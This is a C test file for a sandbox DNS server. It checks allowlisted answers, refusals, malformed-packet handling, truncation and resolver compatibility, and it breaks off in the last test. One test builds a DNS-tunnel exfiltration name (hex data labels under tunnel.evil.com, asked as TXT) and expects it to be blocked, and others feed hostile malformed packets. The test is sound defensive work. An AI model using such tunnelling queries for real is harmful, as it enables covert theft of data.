/* SPDX-License-Identifier: Apache-2.0 */
/*
 * test_net_dns - the sandbox's DNS server (libpetri/net/dns.c), one message
 * at a time, no socket: queries built with libldns (and by hand where they
 * must be broken), answers decoded with libldns and checked field by field.
 *  - an allowed name: one A record in 127.80.0.0/16, TTL 60, AA and RA,
 *    the ID, RD and the question (case included) echoed; same name, same
 *    address (whatever its case); another name, the next address;
 *  - AAAA, TXT, HTTPS, MX, ANY of an allowed name: NOERROR and no data;
 *  - a name not allowed, an exfiltration-looking one (long hex labels, TXT),
 *    binary labels, the root, an address as a name: NXDOMAIN, nothing
 *    assigned; CHAOS: REFUSED;
 *  - two questions, a question cut short, a compression loop: FORMERR;
 *    opcode STATUS: NOTIMP; a response or 5 bytes of junk: no answer;
 *  - localhost and *.localhost: 127.0.0.1, not from the table;
 *  - EDNS0 in the query is accepted, and no OPT comes back;
 *  - an answer that does not fit: TC set and what fits;
 *  - the table: 4096 names, then ENOSPC (and SERVFAIL "names exhausted"
 *    through a query), lookups both ways, never an address reused;
 *  - an independent client: glibc's resolver (res_nquery, with and without
 *    EDNS0) against the answers served on a loopback UDP socket.
 * Internal functions: linked against the static library.
 */
#include <arpa/inet.h>
#include <arpa/nameser.h>
#include <ldns/ldns.h>
#include <netdb.h>
#include <poll.h>
#include <pthread.h>
#include <resolv.h>
#include <stdatomic.h>
#include <sys/socket.h>

#include "net/net.h"
#include "petri_test.h"

/* ---- the allowlist the tests answer with: example.com and below ---- */

struct allow_log {
	int calls;
	char last[PETRI_NET_HOST_MAX];
};

static int allow_example(void *arg, const char *name)
{
	struct allow_log *log = arg;
	log->calls++;
	snprintf(log->last, sizeof(log->last), "%s", name);
	size_t n = strlen(name);
	return strcmp(name, "example.com") == 0 ||
	       (n > 12 && strcmp(name + n - 12, ".example.com") == 0);
}

static int allow_all(void *arg, const char *name)
{
	return allow_example(arg, name) || 1;
}

/* ---- queries ---- */

struct query {
	const char *name;
	ldns_rr_type type;
	ldns_rr_class klass; /* 0: IN */
	uint16_t id;
	int rd;
	int edns;
	int opcode; /* 0: QUERY */
	int qr;
};

/* Wire form of @q into @buf: its length. */
static size_t make_query(const struct query *q, uint8_t *buf, size_t cap)
{
	ldns_rdf *name = ldns_dname_new_frm_str(q->name);
	REQUIRE(name);
	ldns_pkt *p = ldns_pkt_query_new(name, q->type, q->klass ? q->klass : LDNS_RR_CLASS_IN,
					 q->rd ? LDNS_RD : 0);
	REQUIRE(p);
	ldns_pkt_set_id(p, q->id);
	if (q->opcode)
		ldns_pkt_set_opcode(p, (ldns_pkt_opcode)q->opcode);
	if (q->qr)
		ldns_pkt_set_qr(p, true);
	if (q->edns) {
		ldns_pkt_set_edns_udp_size(p, 4096);
		ldns_pkt_set_edns_do(p, true);
	}
	uint8_t *wire = NULL;
	size_t len = 0;
	REQUIRE(ldns_pkt2wire(&wire, p, &len) == LDNS_STATUS_OK);
	REQUIRE(len <= cap);
	memcpy(buf, wire, len);
	free(wire);
	ldns_pkt_free(p);
	return len;
}

struct exchange {
	ssize_t n;
	uint8_t wire[512];
	ldns_pkt *ans; /* decoded, NULL if n <= 0 */
	struct petri_net_dns_info info;
};

static void answer_raw(const uint8_t *q, size_t qlen, struct petri_net_names *t,
		       petri_net_name_allowed_fn fn, void *arg, size_t cap, struct exchange *x)
{
	memset(x, 0, sizeof(*x));
	REQUIRE(cap <= sizeof(x->wire));
	x->n = petri__net_dns_answer(q, qlen, x->wire, cap, t, fn, arg, &x->info);
	if (x->n > 0) {
		REQUIRE((size_t)x->n <= cap);
		REQUIRE(ldns_wire2pkt(&x->ans, x->wire, (size_t)x->n) == LDNS_STATUS_OK);
	}
}

static void ask(const struct query *q, struct petri_net_names *t, struct allow_log *log,
		struct exchange *x)
{
	uint8_t buf[1024];
	size_t len = make_query(q, buf, sizeof(buf));
	answer_raw(buf, len, t, allow_example, log, 512, x);
}

static void exchange_free(struct exchange *x)
{
	ldns_pkt_free(x->ans);
	x->ans = NULL;
}

static uint16_t wire16(const uint8_t *p)
{
	return (uint16_t)(p[0] << 8 | p[1]);
}

/* The answer's header: ID, QR, opcode, rcode, and the flags every answer
 * of ours has (RA; AA on NOERROR and NXDOMAIN), RD as asked. */
static void check_header(const struct exchange *x, const struct query *q, int rcode)
{
	REQUIRE(x->n >= 12 && x->ans);
	CHECK_MSG(ldns_pkt_id(x->ans) == q->id, "id %u", ldns_pkt_id(x->ans));
	CHECK(ldns_pkt_qr(x->ans));
	CHECK_MSG((int)ldns_pkt_get_opcode(x->ans) == q->opcode, "opcode %d",
		  ldns_pkt_get_opcode(x->ans));
	CHECK_MSG((int)ldns_pkt_get_rcode(x->ans) == rcode, "rcode %d, want %d",
		  ldns_pkt_get_rcode(x->ans), rcode);
	CHECK_MSG(x->info.rcode == rcode, "info rcode %d", x->info.rcode);
	CHECK(ldns_pkt_ra(x->ans));
	CHECK(ldns_pkt_aa(x->ans) == (rcode == LDNS_RCODE_NOERROR || rcode == LDNS_RCODE_NXDOMAIN));
	CHECK(ldns_pkt_rd(x->ans) == !!q->rd);
	CHECK(!ldns_pkt_tc(x->ans));
	/* Nothing but the question and our one answer, ever: no authority,
	 * no additional (no OPT either: raw count). */
	CHECK(ldns_pkt_nscount(x->ans) == 0);
	CHECK(wire16(x->wire + 10) == 0);
}

/* The question is echoed exactly (name bytes, case included). */
static void check_question(const struct exchange *x, const struct query *q)
{
	REQUIRE(x->ans);
	REQUIRE(ldns_pkt_qdcount(x->ans) == 1);
	const ldns_rr *qr = ldns_rr_list_rr(ldns_pkt_question(x->ans), 0);
	ldns_rdf *want = ldns_dname_new_frm_str(q->name);
	REQUIRE(want);
	const ldns_rdf *got = ldns_rr_owner(qr);
	CHECK_MSG(ldns_rdf_size(got) == ldns_rdf_size(want) &&
			  memcmp(ldns_rdf_data(got), ldns_rdf_data(want), ldns_rdf_size(got)) == 0,
		  "question name not echoed as sent (%s)", q->name);
	CHECK(ldns_rr_get_type(qr) == q->type);
	CHECK(ldns_rr_get_class(qr) == (q->klass ? q->klass : LDNS_RR_CLASS_IN));
	ldns_rdf_deep_free(want);
}

/* The one A record of the answer: its address (host order), or 0. */
static uint32_t the_a(const struct exchange *x, const struct query *q)
{
	REQUIRE(x->ans);
	CHECK_MSG(ldns_pkt_ancount(x->ans) == 1, "ancount %u", ldns_pkt_ancount(x->ans));
	if (ldns_pkt_ancount(x->ans) != 1)
		return 0;
	const ldns_rr *rr = ldns_rr_list_rr(ldns_pkt_answer(x->ans), 0);
	CHECK(ldns_rr_get_type(rr) == LDNS_RR_TYPE_A);
	CHECK(ldns_rr_get_class(rr) == LDNS_RR_CLASS_IN);
	CHECK_MSG(ldns_rr_ttl(rr) == 60, "ttl %u", ldns_rr_ttl(rr));
	ldns_rdf *want = ldns_dname_new_frm_str(q->name);
	REQUIRE(want);
	CHECK_MSG(ldns_rdf_size(ldns_rr_owner(rr)) == ldns_rdf_size(want) &&
			  memcmp(ldns_rdf_data(ldns_rr_owner(rr)), ldns_rdf_data(want),
				 ldns_rdf_size(want)) == 0,
		  "answer owner is not the question's name as sent");
	ldns_rdf_deep_free(want);
	REQUIRE(ldns_rr_rd_count(rr) == 1);
	const ldns_rdf *rd = ldns_rr_rdf(rr, 0);
	REQUIRE(ldns_rdf_get_type(rd) == LDNS_RDF_TYPE_A && ldns_rdf_size(rd) == 4);
	uint32_t be;
	memcpy(&be, ldns_rdf_data(rd), 4);
	return ntohl(be);
}

#define SYNTH(n) (PETRI_NET_SYNTH_NET + (n))

/* ---- cases ---- */

static void test_a_allowed(void)
{
	struct petri_net_names *t = petri__net_names_new();
	REQUIRE(t);
	struct allow_log log = {0};
	struct exchange x;
	struct query q = {.name = "api.example.com", .type = LDNS_RR_TYPE_A, .id = 0xbeef, .rd = 1};
	ask(&q, t, &log, &x);
	check_header(&x, &q, LDNS_RCODE_NOERROR);
	check_question(&x, &q);
	CHECK(the_a(&x, &q) == SYNTH(1));
	CHECK(x.info.answer == SYNTH(1));
	CHECK_MSG(strcmp(x.info.qname, "api.example.com") == 0, "qname %s", x.info.qname);
	CHECK(x.info.qtype == LDNS_RR_TYPE_A);
	CHECK(x.info.allowed == 1);
	CHECK(x.info.reason && strcmp(x.info.reason, "allowed") == 0);
	CHECK(!x.info.qname_truncated);
	CHECK(log.calls == 1 && strcmp(log.last, "api.example.com") == 0);
	CHECK(petri__net_names_lookup(t, SYNTH(1)) &&
	      strcmp(petri__net_names_lookup(t, SYNTH(1)), "api.example.com") == 0);
	exchange_free(&x);

	/* RD clear in the query: clear in the answer; another ID. */
	struct query q2 = {.name = "example.com", .type = LDNS_RR_TYPE_A, .id = 7, .rd = 0};
	ask(&q2, t, &log, &x);
	check_header(&x, &q2, LDNS_RCODE_NOERROR);
	CHECK(the_a(&x, &q2) == SYNTH(2));
	exchange_free(&x);
	petri__net_names_free(t);
}

static void test_same_name_same_address(void)
{
	struct petri_net_names *t = petri__net_names_new();
	REQUIRE(t);
	struct allow_log log = {0};
	struct exchange x;
	const char *names[] = {"a.example.com", "b.example.com", "A.Example.COM.", "a.EXAMPLE.com",
			       "b.example.com"};
	uint32_t want[] = {SYNTH(1), SYNTH(2), SYNTH(1), SYNTH(1), SYNTH(2)};
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		struct query q = {.name = names[i], .type = LDNS_RR_TYPE_A, .id = (uint16_t)i};
		ask(&q, t, &log, &x);
		check_header(&x, &q, LDNS_RCODE_NOERROR);
		/* Mixed case (0x20 randomisation) comes back as sent. */
		check_question(&x, &q);
		uint32_t a = the_a(&x, &q);
		CHECK_MSG(a == want[i], "%s: %08x, want %08x", names[i], a, want[i]);
		exchange_free(&x);
	}
	CHECK(strcmp(petri__net_names_lookup(t, SYNTH(1)), "a.example.com") == 0);
	CHECK(strcmp(petri__net_names_lookup(t, SYNTH(2)), "b.example.com") == 0);
	CHECK(petri__net_names_lookup(t, SYNTH(3)) == NULL);
	petri__net_names_free(t);
}

static void test_other_types_nodata(void)
{
	struct petri_net_names *t = petri__net_names_new();
	REQUIRE(t);
	struct allow_log log = {0};
	struct exchange x;
	const ldns_rr_type types[] = {LDNS_RR_TYPE_AAAA, LDNS_RR_TYPE_TXT, (ldns_rr_type)65,
				      LDNS_RR_TYPE_MX,   LDNS_RR_TYPE_ANY, LDNS_RR_TYPE_CNAME};
	for (size_t i = 0; i < sizeof(types) / sizeof(types[0]); i++) {
		struct query q = {.name = "www.example.com", .type = types[i], .id = 100, .rd = 1};
		ask(&q, t, &log, &x);
		check_header(&x, &q, LDNS_RCODE_NOERROR);
		check_question(&x, &q);
		CHECK_MSG(ldns_pkt_ancount(x.ans) == 0, "type %d: %u answers", types[i],
			  ldns_pkt_ancount(x.ans));
		CHECK(x.info.allowed == 1 && x.info.answer == 0);
		CHECK(x.info.qtype == types[i]);
		CHECK(x.info.reason && strcmp(x.info.reason, "type not served") == 0);
		exchange_free(&x);
	}
	/* No address was handed out for them. */
	CHECK(petri__net_names_lookup(t, SYNTH(1)) == NULL);
	petri__net_names_free(t);
}

/* @name asked as @type: NXDOMAIN with @reason, the table untouched. */
static void check_nxdomain(const char *name, ldns_rr_type type, const char *reason, int want_calls)
{
	struct petri_net_names *t = petri__net_names_new();
	REQUIRE(t);
	struct allow_log log = {0};
	struct exchange x;
	struct query q = {.name = name, .type = type, .id = 0x4242, .rd = 1};
	ask(&q, t, &log, &x);
	check_header(&x, &q, LDNS_RCODE_NXDOMAIN);
	check_question(&x, &q);
	CHECK_MSG(ldns_pkt_ancount(x.ans) == 0, "%s: an answer", name);
	CHECK(x.info.allowed == 0 && x.info.answer == 0);
	CHECK_MSG(x.info.reason && strcmp(x.info.reason, reason) == 0, "%s: reason %s", name,
		  x.info.reason);
	CHECK(x.info.qtype == type);
	CHECK_MSG(log.calls == want_calls, "%s: %d calls", name, log.calls);
	CHECK(petri__net_names_lookup(t, SYNTH(1)) == NULL);
	exchange_free(&x);
	petri__net_names_free(t);
}

static void test_not_allowed_nxdomain(void)
{
	check_nxdomain("evil.com", LDNS_RR_TYPE_A, "name not allowed", 1);
	check_nxdomain("evil.com", LDNS_RR_TYPE_AAAA, "name not allowed", 1);
	/* Only subdomains and the name itself: not a longer name that ends
	 * the same way. */
	check_nxdomain("notexample.com", LDNS_RR_TYPE_A, "name not allowed", 1);
	check_nxdomain("example.com.evil.com", LDNS_RR_TYPE_A, "name not allowed", 1);
}

static void test_exfiltration_nxdomain(void)
{
	/* Data in long hex labels, asked as TXT (the classic tunnel) and A. */
	char name[256];
	const char *hex = "0123456789abcdef";
	size_t o = 0;
	for (int l = 0; l < 3; l++) {
		for (int i = 0; i < 60; i++)
			name[o++] = hex[(l * 7 + i) % 16];
		name[o++] = '.';
	}
	strcpy(name + o, "tunnel.evil.com");
	check_nxdomain(name, LDNS_RR_TYPE_TXT, "name not allowed", 1);
	check_nxdomain(name, LDNS_RR_TYPE_A, "name not allowed", 1);

	/* The name is in the audit record as asked (normalised). */
	struct petri_net_names *t = petri__net_names_new();
	struct allow_log log = {0};
	struct exchange x;
	struct query q = {.name = name, .type = LDNS_RR_TYPE_TXT, .id = 1};
	ask(&q, t, &log, &x);
	CHECK_MSG(strcmp(x.info.qname, name) == 0, "qname %s", x.info.qname);
	exchange_free(&x);
	petri__net_names_free(t);
}

static void test_bad_names_nxdomain(void)
{
	/* Binary, spaces, a dot inside a label: no host name; the allowlist
	 * is not even asked, and an escaped form goes to the audit. */
	check_nxdomain("\\000\\001\\255.example.com", LDNS_RR_TYPE_A, "bad name", 0);
	check_nxdomain("a\\032b.example.com", LDNS_RR_TYPE_A, "bad name", 0);
	check_nxdomain("a\\.b.example.com", LDNS_RR_TYPE_A, "bad name", 0);
	check_nxdomain(".", LDNS_RR_TYPE_A, "bad name", 0);

	struct petri_net_names *t = petri__net_names_new();
	struct allow_log log = {0};
	struct exchange x;
	struct query q = {.name = "\\000X.example.com", .type = LDNS_RR_TYPE_A, .id = 1};
	ask(&q, t, &log, &x);
	CHECK_MSG(strcmp(x.info.qname, "\\000x.example.com") == 0, "qname %s", x.info.qname);
	exchange_free(&x);

	/* An address written as a name: NXDOMAIN even when everything is
	 * allowed. */
	uint8_t buf[512];
	struct query lit = {.name = "1.2.3.4", .type = LDNS_RR_TYPE_A, .id = 2};
	size_t len = make_query(&lit, buf, sizeof(buf));
	answer_raw(buf, len, t, allow_all, &log, 512, &x);
	check_header(&x, &lit, LDNS_RCODE_NXDOMAIN);
	CHECK(ldns_pkt_ancount(x.ans) == 0);
	CHECK(petri__net_names_lookup(t, SYNTH(1)) == NULL);
	exchange_free(&x);
	petri__net_names_free(t);
}

static void test_chaos_refused(void)
{
	struct petri_net_names *t = petri__net_names_new();
	struct allow_log log = {0};
	struct exchange x;
	struct query q = {.name = "version.bind",
			  .type = LDNS_RR_TYPE_TXT,
			  .klass = LDNS_RR_CLASS_CH,
			  .id = 9};
	ask(&q, t, &log, &x);
	check_header(&x, &q, LDNS_RCODE_REFUSED);
	check_question(&x, &q);
	CHECK(ldns_pkt_ancount(x.ans) == 0);
	CHECK(log.calls == 0);
	CHECK(x.info.reason && strcmp(x.info.reason, "class not served") == 0);
	CHECK(strcmp(x.info.qname, "version.bind") == 0);
	exchange_free(&x);
	petri__net_names_free(t);
}

static void test_two_questions_formerr(void)
{
	struct petri_net_names *t = petri__net_names_new();
	struct allow_log log = {0};
	struct exchange x;
	uint8_t buf[512];
	struct query q = {.name = "example.com", .type = LDNS_RR_TYPE_A, .id = 0x1234, .rd = 1};
	size_t len = make_query(&q, buf, sizeof(buf));
	/* The same question twice, qdcount 2. */
	size_t qlen = len - 12;
	memcpy(buf + len, buf + 12, qlen);
	buf[5] = 2;
	answer_raw(buf, len + qlen, t, allow_example, &log, 512, &x);
	check_header(&x, &q, LDNS_RCODE_FORMERR);
	CHECK(ldns_pkt_qdcount(x.ans) == 0 && ldns_pkt_ancount(x.ans) == 0);
	CHECK(x.n == 12);
	CHECK(x.info.reason && strcmp(x.info.reason, "malformed") == 0);
	CHECK(log.calls == 0);
	CHECK(petri__net_names_lookup(t, SYNTH(1)) == NULL);
	exchange_free(&x);

	/* No question at all. */
	buf[5] = 0;
	answer_raw(buf, 12, t, allow_example, &log, 512, &x);
	check_header(&x, &q, LDNS_RCODE_FORMERR);
	exchange_free(&x);

	/* One announced, cut in the middle of its name. */
	buf[5] = 1;
	answer_raw(buf, 16, t, allow_example, &log, 512, &x);
	check_header(&x, &q, LDNS_RCODE_FORMERR);
	exchange_free(&x);

	/* A name that points at itself (compression loop). */
	uint8_t loop[] = {0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0, 0xc0, 12, 0, 1, 0, 1};
	answer_raw(loop, sizeof(loop), t, allow_example, &log, 512, &x);
	check_header(&x, &q, LDNS_RCODE_FORMERR);
	exchange_free(&x);

	/* A label of 64 (the 0x40 label type): FORMERR, never an answer. */
	uint8_t big[12 + 1 + 64 + 5] = {0x12, 0x34, 0x01, 0x00, 0, 1};
	big[12] = 64;
	memset(big + 13, 'a', 64);
	big[13 + 64] = 0;
	big[13 + 64 + 2] = 1;
	big[13 + 64 + 4] = 1;
	answer_raw(big, sizeof(big), t, allow_all, &log, 512, &x);
	check_header(&x, &q, LDNS_RCODE_FORMERR);
	exchange_free(&x);
	CHECK(log.calls == 0);
	petri__net_names_free(t);
}

static void test_opcode_notimp(void)
{
	struct petri_net_names *t = petri__net_names_new();
	struct allow_log log = {0};
	struct exchange x;
	/* STATUS (2) and NOTIFY (4), UPDATE (5): not ours to answer. */
	const int opcodes[] = {LDNS_PACKET_STATUS, LDNS_PACKET_NOTIFY, LDNS_PACKET_UPDATE,
			       LDNS_PACKET_IQUERY};
	for (size_t i = 0; i < sizeof(opcodes) / sizeof(opcodes[0]); i++) {
		struct query q = {.name = "example.com",
				  .type = LDNS_RR_TYPE_A,
				  .id = (uint16_t)(0x5500 + i),
				  .rd = 1,
				  .opcode = opcodes[i]};
		ask(&q, t, &log, &x);
		check_header(&x, &q, LDNS_RCODE_NOTIMPL);
		CHECK(ldns_pkt_ancount(x.ans) == 0);
		CHECK(x.info.reason && strcmp(x.info.reason, "not a query") == 0);
		exchange_free(&x);
	}
	CHECK(log.calls == 0);
	CHECK(petri__net_names_lookup(t, SYNTH(1)) == NULL);
	petri__net_names_free(t);
}

static void test_no_answer(void)
{
	struct petri_net_names *t = petri__net_names_new();
	struct allow_log log = {0};
	struct exchange x;
	/* A response (QR set): answering could loop. */
	uint8_t buf[512];
	struct query q = {.name = "example.com", .type = LDNS_RR_TYPE_A, .id = 3, .qr = 1};
	size_t len = make_query(&q, buf, sizeof(buf));
	answer_raw(buf, len, t, allow_example, &log, 512, &x);
	CHECK_MSG(x.n == 0, "answered a response: %zd", x.n);
	CHECK(x.info.reason && strcmp(x.info.reason, "not a query") == 0);
	CHECK(x.info.rcode == -1);
	/* 5 bytes of junk, 11 bytes, nothing: no header, no ID, no answer. */
	const size_t lens[] = {5, 11, 0};
	for (size_t i = 0; i < 3; i++) {
		answer_raw((const uint8_t *)"\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b", lens[i],
			   t, allow_example, &log, 512, &x);
		CHECK_MSG(x.n == 0, "%zu bytes: %zd", lens[i], x.n);
		CHECK(x.info.reason && strcmp(x.info.reason, "malformed") == 0);
	}
	CHECK(log.calls == 0);
	petri__net_names_free(t);
}

static void test_localhost(void)
{
	struct petri_net_names *t = petri__net_names_new();
	struct allow_log log = {0};
	struct exchange x;
	const char *names[] = {"localhost", "LocalHost.", "db.localhost"};
	for (size_t i = 0; i < 3; i++) {
		struct query q = {.name = names[i], .type = LDNS_RR_TYPE_A, .id = 11, .rd = 1};
		ask(&q, t, &log, &x);
		check_header(&x, &q, LDNS_RCODE_NOERROR);
		check_question(&x, &q);
		CHECK_MSG(the_a(&x, &q) == 0x7f000001u, "%s", names[i]);
		CHECK(x.info.answer == 0x7f000001u);
		CHECK(x.info.reason && strcmp(x.info.reason, "localhost") == 0);
		exchange_free(&x);
	}
	struct query q6 = {.name = "localhost", .type = LDNS_RR_TYPE_AAAA, .id = 12};
	ask(&q6, t, &log, &x);
	check_header(&x, &q6, LDNS_RCODE_NOERROR);
	CHECK(ldns_pkt_ancount(x.ans) == 0);
	exchange_free(&x);
	/* Not a name that merely ends in "localhost". */
	check_nxdomain("notlocalhost", LDNS_RR_TYPE_A, "name not allowed", 1);
	CHECK(log.calls == 0);
	CHECK(petri__net_names_lookup(t, SYNTH(1)) == NULL);
	petri__net_names_free(t);
}

static void test_edns_query(void)
{
	struct petri_net_names *t = petri__net_names_new();
	struct allow_log log = {0};
	struct exchange x;
	struct query q = {.name = "example.com", .type = LDNS_RR_TYPE_A, .id = 77, .edns = 1};
	uint8_t buf[512];
	size_t len = make_query(&q, buf, sizeof(buf));
	REQUIRE(wire16(buf + 10) == 1); /* the OPT record is really there */
	answer_raw(buf, len, t, allow_example, &log, 512, &x);
	check_header(&x, &q, LDNS_RCODE_NOERROR); /* arcount 0: no OPT back */
	CHECK(the_a(&x, &q) == SYNTH(1));
	exchange_free(&x);
	petri__net_names_free(t);
}

static void test_truncation(void)
{
	struct petri_net_names *t = petri__net_names_new();
	struct allow_log log = {0};
	struct exchange x;
	/* A long allowed name: 12 + its question (~250) + an A (16). */
	char name[256];
	size_t o = 0;
	for (int l = 0; l < 3; l++) {
		memset(name + o, 'a' + l, 62);
		o += 62;
		name[o++] = '.';
	}
	strcpy(name + o, "example.com");
	struct query q = {.name = name, .type = LDNS_RR_TYPE_A, .id = 5, .rd = 1};
	uint8_t buf[512];
	size_t len = make_query(&q, buf, sizeof(buf));

	answer_raw(buf, len, t, allow_example, &log, 512, &x);
	ssize_t full = x.n;
	CHECK(the_a(&x, &q) == SYNTH(1));
	exchange_free(&x);
	REQUIRE(full > (ssize_t)len);

	/* Room for the question, not the answer: TC, the question echoed. */
	answer_raw(buf, len, t, allow_example, &log, (size_t)full - 1, &x);
	REQUIRE(x.n > 0 && x.ans);
	CHECK(ldns_pkt_tc(x.ans));
	CHECK(ldns_pkt_id(x.ans) == 5);
	CHECK(ldns_pkt_qdcount(x.ans) == 1 && ldns_pkt_ancount(x.ans) == 0);
	CHECK(x.info.answer == 0);
	exchange_free(&x);

	/* Room for a header only. */
	answer_raw(buf, len, t, allow_example, &log, 20, &x);
	CHECK(x.n == 12);
	REQUIRE(x.ans);
	CHECK(ldns_pkt_tc(x.ans) && ldns_pkt_qdcount(x.ans) == 0);
	exchange_free(&x);

	/* Not even that. */
	uint8_t small[11];
	CHECK(petri__net_dns_answer(buf, len, small, sizeof(small), t, allow_example, &log, NULL) ==
	      -ENOSPC);
	/* The address stayed the name's. */
	CHECK(strcmp(petri__net_names_lookup(t, SYNTH(1)), name) == 0);
	petri__net_names_free(t);
}

static void test_names_both_ways(void)
{
	struct petri_net_names *t = petri__net_names_new();
	REQUIRE(t);
	uint32_t a1, a2, a3, again;
	CHECK(petri__net_names_assign(t, "pypi.org", &a1) == 0);
	CHECK(petri__net_names_assign(t, "files.pythonhosted.org", &a2) == 0);
	CHECK(petri__net_names_assign(t, "example.com", &a3) == 0);
	CHECK(petri__net_names_assign(t, "pypi.org", &again) == 0);
	CHECK_MSG(a1 == 0x7f500001u && a2 == 0x7f500002u && a3 == 0x7f500003u, "%08x %08x %08x", a1,
		  a2, a3);
	CHECK(again == a1);
	CHECK(strcmp(petri__net_names_lookup(t, a1), "pypi.org") == 0);
	CHECK(strcmp(petri__net_names_lookup(t, a2), "files.pythonhosted.org") == 0);
	CHECK(strcmp(petri__net_names_lookup(t, a3), "example.com") == 0);
	const uint32_t none[] = {0,           PETRI_NET_SYNTH_NET,
				 SYNTH(4),    SYNTH(PETRI_NET_SYNTH_MAX),
				 0x7f000001u, 0x7f510001u,
				 0xffffffffu};
	for (size_t i = 0; i < sizeof(none) / sizeof(none[0]); i++)
		CHECK_MSG(petri__net_names_lookup(t, none[i]) == NULL, "%08x", none[i]);
	uint32_t untouched = 0x12345678;
	CHECK(petri__net_names_assign(t, "", &untouched) == -EINVAL);
	CHECK(untouched == 0x12345678);
	CHECK(petri__net_names_lookup(NULL, a1) == NULL);
	petri__net_names_free(t);
	petri__net_names_free(NULL);
}

static void test_names_exhausted(void)
{
	struct petri_net_names *t = petri__net_names_new();
	REQUIRE(t);
	char name[64];
	/* In an order that is not the sorted one, so that every insert
	 * moves the index. */
	for (uint32_t i = 0; i < PETRI_NET_SYNTH_MAX; i++) {
		uint32_t k = (i * 2654435761u) % 1000003u, a = 0;
		snprintf(name, sizeof(name), "h%u-%u.example.com", k, i);
		int r = petri__net_names_assign(t, name, &a);
		if (r != 0 || a != SYNTH(i + 1)) {
			CHECK_MSG(0, "name %u: r=%d a=%08x", i, r, a);
			break;
		}
	}
	/* Every one found again both ways, none lost by the inserts. */
	for (uint32_t i = 0; i < PETRI_NET_SYNTH_MAX; i++) {
		uint32_t k = (i * 2654435761u) % 1000003u, a = 0;
		snprintf(name, sizeof(name), "h%u-%u.example.com", k, i);
		const char *back = petri__net_names_lookup(t, SYNTH(i + 1));
		if (petri__net_names_assign(t, name, &a) != 0 || a != SYNTH(i + 1) || !back ||
		    strcmp(back, name) != 0) {
			CHECK_MSG(0, "name %u: a=%08x back=%s", i, a, back ? back : "(null)");
			break;
		}
	}
	uint32_t a = 0;
	CHECK(petri__net_names_assign(t, "one-more.example.com", &a) == -ENOSPC);
	CHECK(a == 0);

	/* Through a query: SERVFAIL, "names exhausted"; a known name still
	 * gets its address. */
	struct allow_log log = {0};
	struct exchange x;
	struct query q = {.name = "one-more.example.com", .type = LDNS_RR_TYPE_A, .id = 99};
	ask(&q, t, &log, &x);
	check_header(&x, &q, LDNS_RCODE_SERVFAIL);
	check_question(&x, &q);
	CHECK(ldns_pkt_ancount(x.ans) == 0);
	CHECK(x.info.reason && strcmp(x.info.reason, "names exhausted") == 0);
	CHECK(x.info.allowed == 1 && x.info.answer == 0);
	exchange_free(&x);
	snprintf(name, sizeof(name), "h%u-%u.example.com", 0u, 0u);
	struct query known = {.name = name, .type = LDNS_RR_TYPE_A, .id = 100};
	ask(&known, t, &log, &x);
	check_header(&x, &known, LDNS_RCODE_NOERROR);
	CHECK(the_a(&x, &known) == SYNTH(1));
	exchange_free(&x);
	petri__net_names_free(t);
}

static void test_bad_arguments(void)
{
	struct petri_net_names *t = petri__net_names_new();
	uint8_t buf[512], out[512];
	struct query q = {.name = "example.com", .type = LDNS_RR_TYPE_A, .id = 1};
	size_t len = make_query(&q, buf, sizeof(buf));
	struct allow_log log = {0};
	CHECK(petri__net_dns_answer(NULL, len, out, sizeof(out), t, allow_example, &log, NULL) ==
	      -EINVAL);
	CHECK(petri__net_dns_answer(buf, len, out, sizeof(out), NULL, allow_example, &log, NULL) ==
	      -EINVAL);
	/* info is optional. */
	CHECK(petri__net_dns_answer(buf, len, out, sizeof(out), t, allow_example, &log, NULL) > 12);
	/* No callback: nothing is allowed. */
	struct petri_net_dns_info info;
	CHECK(petri__net_dns_answer(buf, len, out, sizeof(out), t, NULL, NULL, &info) > 12);
	CHECK(info.rcode == LDNS_RCODE_NXDOMAIN);
	petri__net_names_free(t);
}

/* ---- glibc's resolver as the client ---- */

struct udp_server {
	int fd;
	atomic_int stop;
	struct petri_net_names *t;
	struct allow_log log;
	int served;
};

/* Answer every datagram on srv->fd until told to stop. */
static void *serve_udp(void *arg)
{
	struct udp_server *srv = arg;
	while (!atomic_load(&srv->stop)) {
		struct pollfd pfd = {.fd = srv->fd, .events = POLLIN};
		if (poll(&pfd, 1, 50) <= 0)
			continue;
		uint8_t q[1500], a[512];
		struct sockaddr_storage from;
		socklen_t flen = sizeof(from);
		ssize_t n = recvfrom(srv->fd, q, sizeof(q), 0, (struct sockaddr *)&from, &flen);
		if (n <= 0)
			continue;
		ssize_t m = petri__net_dns_answer(q, (size_t)n, a, sizeof(a), srv->t, allow_example,
						  &srv->log, NULL);
		if (m > 0 && sendto(srv->fd, a, (size_t)m, 0, (struct sockaddr *)&from, flen) == m)
			srv->served++;
	}
	return NULL;
}

/* res_nquery @name @type through @st: the answer's length, or -1 with
 * st->res_h_errno. */
static int glibc_query(res_state st, const char *name, int type, uint8_t *buf, int cap)
{
	return res_nquery(st, name, ns_c_in, type, buf, cap);
}

static void test_glibc_resolver(void)
{
	struct udp_server srv = {.fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0)};
	REQUIRE(srv.fd >= 0);
	struct sockaddr_in sin = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(0x7f000001u)};
	REQUIRE(bind(srv.fd, (struct sockaddr *)&sin, sizeof(sin)) == 0);
	socklen_t slen = sizeof(sin);
	REQUIRE(getsockname(srv.fd, (struct sockaddr *)&sin, &slen) == 0);
	srv.t = petri__net_names_new();
	REQUIRE(srv.t);
	pthread_t th;
	REQUIRE(pthread_create(&th, NULL, serve_udp, &srv) == 0);

	struct __res_state st;
	memset(&st, 0, sizeof(st));
	REQUIRE(res_ninit(&st) == 0);
	st.nscount = 1;
	st.nsaddr_list[0] = sin;
	st.retry = 2;
	st.retrans = 2;
	uint8_t buf[512];
	for (int edns = 0; edns < 2; edns++) {
		if (edns)
			st.options |= RES_USE_EDNS0;
		int n = glibc_query(&st, "api.example.com", ns_t_a, buf, sizeof(buf));
		CHECK_MSG(n > 0, "edns %d: A: h_errno %d", edns, st.res_h_errno);
		ns_msg msg;
		ns_rr rr;
		if (n > 0 && ns_initparse(buf, n, &msg) == 0) {
			CHECK(ns_msg_getflag(msg, ns_f_rcode) == ns_r_noerror);
			CHECK(ns_msg_getflag(msg, ns_f_aa) && ns_msg_getflag(msg, ns_f_ra));
			CHECK(ns_msg_count(msg, ns_s_an) == 1);
